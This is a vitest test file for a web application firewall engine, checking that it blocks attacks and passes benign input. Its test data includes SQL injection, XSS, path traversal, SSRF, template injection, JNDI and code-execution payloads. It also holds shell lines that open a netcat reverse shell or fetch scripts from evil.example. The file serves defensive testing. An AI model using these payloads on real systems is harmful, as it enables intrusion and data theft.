// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads are written as they are sent
import { afterAll, describe, expect, it } from 'vitest';
import { compileWaf, type Decision } from './engine.ts';
import { base64Text, foldShell, htmlDecode, urlDecode, variants } from './normalize.ts';

/** A typical browser-ish client: the headers every case carries. */
const BASE_HEADERS = [
  'Host',
  'api.bulwark.example',
  'User-Agent',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  'Accept',
  'application/json, text/plain, */*',
  'Accept-Language',
  'en-GB,en;q=0.9,fr;q=0.8',
  'Accept-Encoding',
  'gzip, deflate, br',
];

const waf = compileWaf({ paranoia: 1, mode: 'block' });
afterAll(() => waf.dispose());

function get(url: string, extra: string[] = []): Decision {
  return waf.evaluate({ method: 'GET', httpVersion: '1.1', url, rawHeaders: [...BASE_HEADERS, ...extra] });
}

function postJson(body: unknown, url = '/v1/claims'): Decision {
  const text = JSON.stringify(body);
  return waf.evaluate(
    {
      method: 'POST',
      httpVersion: '1.1',
      url,
      rawHeaders: [
        ...BASE_HEADERS,
        'Content-Type',
        'application/json',
        'Content-Length',
        String(text.length),
      ],
    },
    { contentType: 'application/json', text },
  );
}

const q = (v: string): string => `/v1/search?q=${encodeURIComponent(v)}`;

describe('normalisation', () => {
  it('decodes percent-encoding once per layer, with + as space only for forms', () => {
    expect(urlDecode('a%2527b', false)).toBe('a%27b');
    expect(urlDecode('a+b', true)).toBe('a b');
    expect(urlDecode('a+b', false)).toBe('a+b');
  });
  it('keeps the meaning of overlong UTF-8 and IIS %u escapes (CWE-176, CWE-172)', () => {
    expect(urlDecode('..%c0%af..%c0%afetc', false)).toBe('../../etc');
    expect(urlDecode('%u003cscript', false)).toBe('<script');
  });
  it('decodes HTML references without semicolons and with leading zeros', () => {
    expect(htmlDecode('&#x3C;svg&#0000062;&lt&amp;')).toBe('<svg><&');
  });
  it('folds shell quoting tricks', () => {
    expect(foldShell('c\'a\'t /e\\tc/pa""sswd')).toBe('cat /etc/passwd');
    expect(foldShell('cat${IFS}/etc/passwd')).toBe('cat /etc/passwd');
  });
  it('decodes base64 at any alignment, but not words', () => {
    expect(base64Text(Buffer.from('<script>alert(1)</script>').toString('base64'))).toBe(
      '<script>alert(1)</script>',
    );
    expect(base64Text('Certainly')).toBeUndefined();
  });
  it('yields fullwidth-folded and double-decoded variants', () => {
    const v = variants('%25EF%25BC%259Cscript%25EF%25BC%259E', false);
    expect(v).toContain('<script>');
  });
  it('returns a plain value untouched', () => {
    expect(variants('Jane Doe', true)).toEqual(['Jane Doe']);
  });
});

/** Attack and benign cases per family: each attack must block, each benign must pass. */
const FAMILIES: Record<string, { attacks: string[]; benign: string[] }> = {
  sqli: {
    attacks: [
      "1' OR '1'='1",
      "x') UNION SELECT username, password FROM users--",
      '1; DROP TABLE accounts',
      "admin'/**/oR/**/1=1#",
      '1 AND SLEEP(5)',
      "'; EXEC xp_cmdshell('dir')--",
      '1%27%20or%20%271%27%3D%271',
      "1' AND extractvalue(1,concat(0x7e,version()))-- -",
    ],
    benign: [
      "O'Brien",
      'Select Comfort Ltd',
      'Order #4411 — reorder from catalogue',
      'union street 5',
      'drop-off point',
    ],
  },
  nosqli: {
    attacks: ['{"$where": "sleep(100)"}', "this.password.match(/^a/) || '1'=='1"],
    benign: ['$45.00 paid', 'price in $'],
  },
  xss: {
    attacks: [
      '<script>alert(document.cookie)</script>',
      '<img src=x onerror=alert(1)>',
      'javascript:alert(1)',
      '"><svg/onload=confirm(1)>',
      '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;',
      '＜script＞alert(1)＜/script＞',
    ],
    benign: ['Temperature < 5 °C', 'Tom & Jerry', 'I <3 insurance', 'on time delivery'],
  },
  lfi: {
    attacks: [
      '../../../../etc/passwd',
      '..%2f..%2f..%2fwindows/win.ini',
      '....//....//etc/shadow',
      '/proc/self/environ',
    ],
    benign: ['claims/2024/report.pdf', 'v1.2.3', 'Unit 4/5 High St.'],
  },
  rce: {
    attacks: [
      '; cat /etc/passwd',
      '| nc -e /bin/sh 10.0.0.1 4444',
      '$(curl http://evil.example/x.sh)',
      '`id`',
      "c'a't${IFS}/etc/passwd",
      '& ping -n 30 127.0.0.1 &',
      'wget http://evil.example/shell.sh -O /tmp/s',
    ],
    benign: ['cat and dog insurance', 'Time: 10:30', 'Ping me at 5', 'ls -- not a command'.slice(0, 2)],
  },
  ssrf: {
    attacks: [
      'http://169.254.169.254/latest/meta-data/',
      'http://localhost:8080/admin',
      'gopher://127.0.0.1:6379/_FLUSHALL',
      'http://[::1]/',
      'http://0x7f000001/',
    ],
    benign: ['https://partner.example.com/webhooks/bulwark', 'https://www.example.org/terms'],
  },
  ssti: {
    attacks: [
      '{{7*7}}',
      "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
      '${7*7}',
      '<%= system("id") %>',
    ],
    benign: ['{name}', 'Dear customer,'],
  },
  xxe: {
    attacks: ['<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>'],
    benign: ['<p>not parsed</p>'.replace(/<[^>]+>/g, '')],
  },
  java: {
    attacks: [
      '${jndi:ldap://evil.example/a}',
      '${${lower:j}ndi:rmi://x/y}',
      'java.lang.Runtime.getRuntime().exec("id")',
      'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA',
    ],
    benign: ['Java developer', 'Runtime: 2 hours'],
  },
  php: {
    attacks: [
      '<?php system($_GET["c"]); ?>',
      'php://filter/convert.base64-encode/resource=index',
      'O:8:"stdClass":1:{s:1:"a";i:1;}',
    ],
    benign: ['PHP 8 migration', 'Hypertext'],
  },
  nodejs: {
    attacks: [
      "require('child_process').exec('id')",
      '_$$ND_FUNC$$_function(){}()',
      'process.mainModule.require("fs")',
    ],
    benign: ['processing fee', 'required field'],
  },
  'prototype-pollution': {
    attacks: ['__proto__[isAdmin]=true', 'constructor.prototype.polluted'],
    benign: ['prototype board', 'constructor company'],
  },
};

describe('rule families at paranoia 1', () => {
  for (const [family, { attacks, benign }] of Object.entries(FAMILIES)) {
    describe(family, () => {
      it.each(attacks)('blocks %s in the query and in JSON', (payload) => {
        const viaQuery = get(q(payload));
        const viaJson = postJson({ claim: { notes: [payload] } });
        expect(viaQuery.action, JSON.stringify(viaQuery.ruleIds)).toBe('block');
        expect(viaJson.action, JSON.stringify(viaJson.ruleIds)).toBe('block');
      });
      it.each(benign)('lets %s through', (value) => {
        const d = get(q(value));
        expect(d.action, JSON.stringify(d.ruleIds)).toBe('allow');
        expect(postJson({ description: value }).action).toBe('allow');
      });
    });
  }
});

describe('placements', () => {
  it('inspects JSON keys at any depth', () => {
    const d = postJson({ a: { b: [{ "x' OR 1=1--": 1 }] } });
    expect(d.action).toBe('block');
    expect(d.matches.some((m) => m.placement === 'body')).toBe(true);
  });
  it('refuses NoSQL operators as JSON keys', () => {
    expect(postJson({ user: 'admin', password: { $ne: null } }).ruleIds).toContain('nosqli-100');
  });
  it('inspects every header, not only the User-Agent', () => {
    const d = get('/v1/claims', ['X-Forwarded-Host', "x' UNION SELECT password FROM users--"]);
    expect(d.action).toBe('block');
    expect(d.matches[0]?.placement).toBe('header');
  });
  it('inspects cookies', () => {
    expect(get('/v1/claims', ['Cookie', 'theme=<script>alert(1)</script>']).action).toBe('block');
  });
  it('inspects the path', () => {
    expect(get('/v1/files/..%2f..%2f..%2fetc%2fpasswd').action).toBe('block');
  });
  it('inspects form, multipart and XML bodies', () => {
    const form = 'name=x&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E';
    const mp =
      '--b\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\n; cat /etc/passwd\r\n--b--\r\n';
    const xml = '<?xml version="1.0"?><claim><note>1\' UNION SELECT secret FROM keys--</note></claim>';
    for (const [type, text] of [
      ['application/x-www-form-urlencoded', form],
      ['multipart/form-data; boundary=b', mp],
      ['application/xml', xml],
    ] as const) {
      const d = waf.evaluate(
        {
          method: 'POST',
          httpVersion: '1.1',
          url: '/v1/claims',
          rawHeaders: [...BASE_HEADERS, 'Content-Type', type, 'Content-Length', String(text.length)],
        },
        { contentType: type, text },
      );
      expect(d.action, type).toBe('block');
    }
  });
  it('sees through base64-wrapped payloads', () => {
    const b64 = Buffer.from('<script>alert(1)</script>').toString('base64');
    expect(get(q(b64)).action).toBe('block');
  });
});

describe('protocol and scanners', () => {
  it('refuses TRACE and method override', () => {
    const trace = waf.evaluate({ method: 'TRACE', httpVersion: '1.1', url: '/', rawHeaders: BASE_HEADERS });
    expect(trace.ruleIds).toContain('protocol-200');
    expect(get('/v1/claims', ['X-HTTP-Method-Override', 'DELETE']).ruleIds).toContain('protocol-210');
    expect(get('/v1/claims?_method=DELETE').ruleIds).toContain('protocol-150');
  });
  it('refuses ambiguous framing (request smuggling, RFC 9112 §6.1)', () => {
    const d = waf.evaluate({
      method: 'POST',
      httpVersion: '1.1',
      url: '/v1/claims',
      rawHeaders: [
        ...BASE_HEADERS,
        'Content-Type',
        'application/json',
        'Content-Length',
        '4',
        'Transfer-Encoding',
        'chunked',
      ],
    });
    expect(d.ruleIds).toContain('protocol-251');
  });
  it('refuses CRLF header injection in parameters', () => {
    expect(get('/v1/x?lang=en%0d%0aSet-Cookie:%20a=b').action).toBe('block');
  });
  it('flags scanner user agents', () => {
    const d = waf.evaluate({
      method: 'GET',
      httpVersion: '1.1',
      url: '/',
      rawHeaders: [
        'Host',
        'a.example',
        'User-Agent',
        'sqlmap/1.8#stable (https://sqlmap.org)',
        'Accept',
        '*/*',
      ],
    });
    expect(d.ruleIds).toContain('scanner-100');
  });
  it('passes a clean API request untouched, with no matches', () => {
    const d = postJson({
      policyId: '0193a5c4-7d2e-7a11-b3f0-5e1c2d3a4b5c',
      amount: { value: 125_000, currency: 'EUR' },
      payee: { name: 'María-José Núñez', iban: 'DE89370400440532013000', email: 'mj.nunez@example.com' },
      description: 'Water damage in the kitchen (ceiling), reported 2024-05-03; photos attached.',
      webhook: 'https://partner.example.com/hooks/claims?id=42',
    });
    expect(d).toEqual({ action: 'allow', score: 0, ruleIds: [], matches: [] });
  });
});

describe('paranoia, exclusions and monitor mode', () => {
  it('runs more rules at a higher paranoia level', () => {
    const pl2 = compileWaf({ paranoia: 2, mode: 'block' });
    try {
      expect(pl2.rules.length).toBeGreaterThan(waf.rules.length);
      // An off-site URL is only an RFI suspect at PL2.
      expect(get(q('https://evil.example/x')).action).toBe('allow');
      const d = pl2.evaluate({
        method: 'GET',
        httpVersion: '1.1',
        url: q('https://evil.example/x'),
        rawHeaders: BASE_HEADERS,
      });
      expect(d.ruleIds).toContain('rfi-130');
    } finally {
      pl2.dispose();
    }
  });
  it('excludes a free-text field on one route only', () => {
    const ex = compileWaf({
      paranoia: 1,
      mode: 'block',
      exclusions: [{ route: '/v1/claims/:claimId/notes', placement: 'body', key: 'text', families: ['xss'] }],
    });
    try {
      const body = JSON.stringify({ text: '<b>see</b> <img src=x onerror=alert(1)>' });
      const facts = {
        method: 'POST',
        httpVersion: '1.1',
        url: '/v1/claims/1/notes',
        rawHeaders: [
          ...BASE_HEADERS,
          'Content-Type',
          'application/json',
          'Content-Length',
          String(body.length),
        ],
      };
      const input = { contentType: 'application/json', text: body };
      expect(ex.evaluate(facts, input, '/v1/claims/:claimId/notes').action).toBe('allow');
      expect(ex.evaluate(facts, input, '/v1/claims').action).toBe('block');
      // Other families still apply to the excluded field.
      const sqli = JSON.stringify({ text: "x' UNION SELECT secret FROM keys--" });
      expect(
        ex.evaluate(facts, { contentType: 'application/json', text: sqli }, '/v1/claims/:claimId/notes')
          .action,
      ).toBe('block');
    } finally {
      ex.dispose();
    }
  });
  it('reports but does not block in monitor mode', () => {
    const mon = compileWaf({ paranoia: 1, mode: 'monitor' });
    try {
      const d = mon.evaluate({
        method: 'GET',
        httpVersion: '1.1',
        url: q("1' OR '1'='1"),
        rawHeaders: BASE_HEADERS,
      });
      expect(d.action).toBe('monitor');
      expect(d.ruleIds.length).toBeGreaterThan(0);
    } finally {
      mon.dispose();
    }
  });
  it('refuses a bad paranoia level at boot', () => {
    expect(() => compileWaf({ paranoia: 7 as 1, mode: 'block' })).toThrow(/paranoia/);
  });
});
